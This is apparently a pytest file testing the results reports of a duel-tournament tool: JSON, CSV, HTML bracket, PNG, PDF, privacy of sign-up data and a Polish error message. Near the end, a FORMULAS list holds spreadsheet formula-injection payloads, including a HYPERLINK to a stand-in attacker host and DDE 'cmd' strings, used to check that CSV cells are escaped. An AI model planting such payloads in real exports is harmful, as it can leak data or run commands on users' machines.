"""Results out: the JSON and CSV files, the bracket page, its PNG and PDF."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from clockd.core.bracket import (
    Assign,
    Bracket,
    Confirm,
    Draw,
    DuelFinished,
    Override,
    OverrideReason,
    Walkover,
)
from clockd.core.clock import PerSide, Side
from clockd.core.csvtext import spreadsheet_cell
from clockd.core.duel import DuelDecidedBy, Verdict
from clockd.core.registration import Registration, parse_signups
from clockd.core.units import MS, SECOND
from clockd.data import festival_config
from clockd.reports.html import COLORS, bracket_html
from clockd.reports.results import Results, build_results, check_results, results_csv

CONFIG = festival_config()
SIGNUPS = "Imię,Nazwisko,E-mail,Telefon,Wiek\n" + "".join(
    f"Gracz{i},Nazwiskowy{i},osoba{i}@example.pl,60010{i:04d},{20 + i}\n" for i in range(1, 15)
)
NAMES = Registration.from_signups(parse_signups(SIGNUPS), seats=16).public_names()


def verdict(a_ns: int, b_ns: int) -> Verdict:
    steps = PerSide(a=-(-a_ns // SECOND), b=-(-b_ns // SECOND))
    if steps.a == steps.b:
        winner, by = None, DuelDecidedBy.TIE
    else:
        winner, by = (Side.A if steps.a > steps.b else Side.B), DuelDecidedBy.TIME
    return Verdict(
        winner=winner,
        decided_by=by,
        remaining_ns=PerSide(a=a_ns, b=b_ns),
        displayed=PerSide[str](a=f"0:{steps.a:02d}", b=f"0:{steps.b:02d}"),
        moves=PerSide(a=12, b=11),
        ended_at_ns=5 * SECOND,
        resolution_ns=SECOND,
        steps=steps,
    )


def session() -> Bracket:
    """A 14-player session with a tie-break, a walkover and a referee override."""
    b = Bracket.create(CONFIG, Draw.seeded(list(range(1, 15)), 16, 7))
    table = 0
    while not b.finished:
        m = b.playable()[0]
        table = table % 4 + 1
        if m.id == "R1-3":
            assert m.a is not None
            b = b.apply(m.id, Walkover(absent=m.a, reason="nie przyszedł do stołu"))
            continue
        b = b.apply(m.id, Assign(table=table))
        if m.id == "R1-4":
            b = b.apply(m.id, DuelFinished(verdict=verdict(30 * SECOND + 1 * MS, 30 * SECOND + 900 * MS)))
            continue  # a tie at 1 s: R1-4-TB1 comes next
        if m.id == "R2-2":
            b = b.apply(m.id, DuelFinished(verdict=verdict(40 * SECOND, 20 * SECOND)))
            assert m.b is not None
            b = b.apply(
                m.id, Override(winner=m.b, category=OverrideReason.DISQUALIFICATION, reason="§8.1 test")
            )
            continue
        b = b.apply(m.id, DuelFinished(verdict=verdict((10 + m.slot) * SECOND + 250 * MS, 9 * SECOND)))
        b = b.apply(m.id, Confirm())
    return b


@pytest.fixture(scope="module")
def results() -> Results:
    return build_results(session(), NAMES, session="Piątek 19.06")


def test_the_json_has_the_fields_the_issue_names(results: Results) -> None:
    data = json.loads(results.model_dump_json())
    assert {"players", "matches", "decisions", "podium"} <= set(data)
    assert data["players"][0] == {"id": 1, "name": "Gracz1 N."}
    assert len(data["podium"]) == 3 and all(isinstance(p, int) for p in data["podium"])
    for m in data["matches"]:
        assert {
            "id",
            "round",
            "table",
            "a",
            "b",
            "winner",
            "remaining_ms",
            "displayed",
            "moves",
            "decided_by",
        } <= set(m)
        assert m["decided_by"] in {"time", "flag", "tiebreak", "referee", "bye", "walkover"}
        if m["remaining_ms"] is not None:
            assert set(m["remaining_ms"]) == set(m["displayed"]) == set(m["moves"]) == {"a", "b"}
    by = {m["id"]: m for m in data["matches"]}
    assert by["R1-1"]["b"] is None and by["R1-1"]["decided_by"] == "bye"
    assert by["R1-3"]["decided_by"] == "walkover" and by["R1-3"]["remaining_ms"] is None
    assert by["R1-4"]["decided_by"] == "tiebreak"
    assert by["R1-4"]["remaining_ms"] == {"a": 30_001, "b": 30_900}
    assert by["R1-4"]["displayed"] == {"a": "0:31", "b": "0:31"}
    assert by["R1-4-TB1"]["tiebreak_of"] == "R1-4" and by["R1-4-TB1"]["winner"] == by["R1-4"]["winner"]
    assert by["R2-2"]["decided_by"] == "referee"
    assert [d["match"] for d in data["decisions"]] == ["R1-3", "R2-2"]
    assert (
        data["decisions"][1]["category"] == "disqualification"
        and data["decisions"][1]["reason"] == "§8.1 test"
    )
    # 14 players: two byes, so 6 + 4 + 2 + 1 + 1 duels, one tie-break, one walkover without a duel
    duels = [m for m in data["matches"] if m["remaining_ms"] is not None]
    assert len(duels) == 6 - 1 + 4 + 2 + 1 + 1 + 1


def test_the_rule_check_passes_on_true_results_and_catches_a_wrong_winner(results: Results) -> None:
    assert check_results(results) == []
    data = json.loads(results.model_dump_json())
    m = next(m for m in data["matches"] if m["decided_by"] == "time")
    m["winner"] = m["a"] if m["winner"] == m["b"] else m["b"]
    problems = check_results(Results.model_validate(data))
    assert len(problems) == 1 and problems[0].params["match"] == m["id"]
    data = json.loads(results.model_dump_json())
    data["decisions"] = []
    assert len(check_results(Results.model_validate(data))) == 2  # the walkover and the override


def test_the_csv_has_a_row_per_match_with_names(results: Results) -> None:
    rows = list(csv.DictReader(io.StringIO(results_csv(results))))
    assert len(rows) == len(results.matches)
    final = next(r for r in rows if r["id"] == "R5-1")
    assert final["winner_name"] == f"Gracz{results.podium[0]} N."
    tb = next(r for r in rows if r["id"] == "R1-4-TB1")
    assert tb["tiebreak_of"] == "R1-4"


def test_the_files_name_every_player_and_hold_no_private_data(results: Results) -> None:
    page = bracket_html(results)
    for p in results.players:
        assert p.name in page
    assert "Mistrz Pojedynków" in page or "Duel Champion" in page
    for text in (page, results.model_dump_json(), results_csv(results)):
        assert "Nazwiskowy" not in text and "example.pl" not in text and "60010" not in text


def test_the_png_shows_the_champion_in_gold_in_the_final_column(results: Results, tmp_path: Path) -> None:
    from PySide6.QtGui import QColor, QImage

    from clockd.reports.render import html_to_png

    path = tmp_path / "bracket.png"
    width, height = html_to_png(bracket_html(results), path, width_px=1400)
    image = QImage(str(path))
    assert (image.width(), image.height()) == (width, height)
    gold = QColor(COLORS["gold"]).rgb()
    green = QColor(COLORS["winner"]).rgb()
    step = 4
    gold_xs = [x for y in range(0, height, step) for x in range(0, width, step) if image.pixel(x, y) == gold]
    green_xs = [
        x for y in range(0, height, step) for x in range(0, width, step) if image.pixel(x, y) == green
    ]
    # gold: the champion's line in the final (rightmost column) and the podium table (left)
    assert any(x > width * 3 // 4 for x in gold_xs)
    # green winners fill the earlier rounds' columns
    assert any(x < width // 4 for x in green_xs)


def test_the_pdf_is_a_printable_page(results: Results, tmp_path: Path) -> None:
    from clockd.reports.render import html_to_pdf

    path = tmp_path / "bracket.pdf"
    pages = html_to_pdf(bracket_html(results), path)
    data = path.read_bytes()
    assert data.startswith(b"%PDF-") and b"%%EOF" in data[-64:]
    assert pages >= 1


FORMULAS = ['=HYPERLINK("http://evil.example/?leak","Ola")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
FORMULAS += ["@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


@pytest.mark.parametrize("cell", [*FORMULAS, "\r=1+1"])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-250", "0", "3.5", "-0.25", "Anna K.", "R1-1", "", "0:42"])
def test_numbers_and_ordinary_text_are_left_as_they_are(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell


def test_the_csv_never_hands_a_spreadsheet_a_formula_but_keeps_numbers_numbers(results: Results) -> None:
    players = [
        p.model_copy(update={"name": FORMULAS[i % len(FORMULAS)]}) for i, p in enumerate(results.players)
    ]
    match = results.matches[0].model_copy(update={"remaining_ms": PerSide[int](a=-250, b=1500)})
    hostile = results.model_copy(update={"players": players, "matches": [match, *results.matches[1:]]})
    rows = list(csv.DictReader(io.StringIO(results_csv(hostile))))
    names = {row[col] for row in rows for col in ("a_name", "b_name", "winner_name")} - {""}
    assert names and all(name.startswith("'") and name[1:] in FORMULAS for name in names)
    assert (rows[0]["remaining_ms_a"], rows[0]["remaining_ms_b"]) == ("-250", "1500")  # numbers stay numbers
    assert all(
        row["round"].isdigit() and row["moves_a"].lstrip("-").isdigit() for row in rows if row["moves_a"]
    )


def test_a_report_file_that_cannot_be_written_is_a_sentence_in_polish(
    results: Results, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from clockd.cli import main
    from clockd.i18n import set_language

    source = tmp_path / "results.json"
    source.write_text(results.model_dump_json(), encoding="utf-8")
    target = tmp_path / "no-such-folder" / "bracket.html"
    set_language("pl")
    try:
        assert main(["tournament", "report", str(source), "--html", str(target)]) == 2
    finally:
        set_language(None)
    assert capsys.readouterr().err.strip() == f"nie można zapisać {target}: nie ma takiego pliku ani folderu"
